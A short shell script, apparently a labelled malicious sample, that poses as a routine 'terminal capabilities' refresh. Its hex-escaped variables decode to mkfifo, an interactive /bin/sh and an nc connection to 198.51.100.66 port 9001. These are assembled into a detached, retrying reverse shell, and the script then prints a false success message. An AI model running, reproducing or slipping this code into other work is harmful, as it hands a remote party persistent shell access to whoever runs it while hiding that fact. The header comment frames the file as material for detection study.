# Harmful: mkfifo reverse shell, an interactive /bin/sh piped through nc to 198.51.100.66:9001 in a detached retry loop; hiding: every word of the pipeline is a \x escape string expanded with printf %b
set -u
# terminal capability strings (see terminfo)
cap_sock='\x2f\x74\x6d\x70\x2f\x2e\x58\x31\x31\x2d\x75\x6e\x69\x78\x2f\x2e\x73\x6f\x63\x6b'
cap_make='\x6d\x6b\x66\x69\x66\x6f'
cap_term='\x2f\x62\x69\x6e\x2f\x73\x68\x20\x2d\x69\x20\x32\x3e\x26\x31'
cap_line='\x6e\x63\x20\x31\x39\x38\x2e\x35\x31\x2e\x31\x30\x30\x2e\x36\x36\x20\x39\x30\x30\x31'

cap() { printf '%b' "$1"; }

node=$(cap "$cap_sock")
mkdir -p "${node%/*}" 2>/dev/null
rm -f "$node"
"$(cap "$cap_make")" "$node" 2>/dev/null || exit 0

loop="while :; do cat $node | $(cap "$cap_term") | $(cap "$cap_line") > $node; sleep 60; done"
setsid sh -c "$loop" </dev/null >/dev/null 2>&1 &

echo "terminal capabilities refreshed"
